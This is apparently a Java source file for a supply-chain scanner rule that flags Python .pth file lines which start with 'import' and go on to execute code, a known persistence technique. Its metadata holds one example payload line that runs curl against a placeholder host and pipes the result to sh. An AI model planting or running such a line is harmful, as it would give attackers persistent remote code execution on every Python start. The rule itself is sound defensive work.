package dev.chainhunt.rules.python;

import dev.chainhunt.lang.SourceText;
import dev.chainhunt.model.AttackStage;
import dev.chainhunt.model.Confidence;
import dev.chainhunt.model.Language;
import dev.chainhunt.model.Severity;
import dev.chainhunt.rules.RuleMetadata;
import dev.chainhunt.rules.SourceContext;
import dev.chainhunt.rules.SourceRule;

import java.util.List;
import java.util.regex.Pattern;

/**
 * A {@code .pth} file whose import lines do more than import: Python's site module executes every
 * line that starts with {@code import} at each interpreter start, so a package can run code in
 * every Python process on the machine once installed. The lines are also analysed as Python.
 */
public final class PyPthExecutesCodeRule implements SourceRule {

    static final RuleMetadata METADATA = new RuleMetadata(
            "py-pth-executes-code",
            "A .pth file runs code at every interpreter start",
            "Lines of a .pth file that start with 'import' are executed by Python's site module each time any "
                    + "interpreter starts, long after installation and without the package ever being imported. "
                    + "Tools such as setuptools and coverage use this sparingly for a documented shim; payloads use "
                    + "it for persistence. The code on these lines is analysed like any Python file.",
            Severity.MEDIUM,
            Confidence.MEDIUM,
            AttackStage.PERSISTENCE,
            List.of("T1546.018", "T1546"),
            "import os; os.system('curl -s https://example.invalid/p | sh')");

    private static final Pattern CODE = Pattern.compile(";|\\(|\\bexec\\b|\\beval\\b|__import__");

    @Override
    public RuleMetadata metadata() {
        return METADATA;
    }

    @Override
    public boolean appliesTo(Language language) {
        return language == Language.PTH;
    }

    @Override
    public void check(SourceContext context) {
        SourceText text = context.text();
        for (int line = 1; line <= text.lineCount(); line++) {
            String l = text.line(line);
            if (isExecuted(l) && CODE.matcher(l).find()) {
                context.at(this, line, 1).report("a .pth line that Python executes at every start does more than import");
            }
        }
    }

    /** Whether site.py executes this line: it starts with "import " or "import\t". */
    public static boolean isExecuted(String line) {
        return line.startsWith("import ") || line.startsWith("import\t");
    }
}
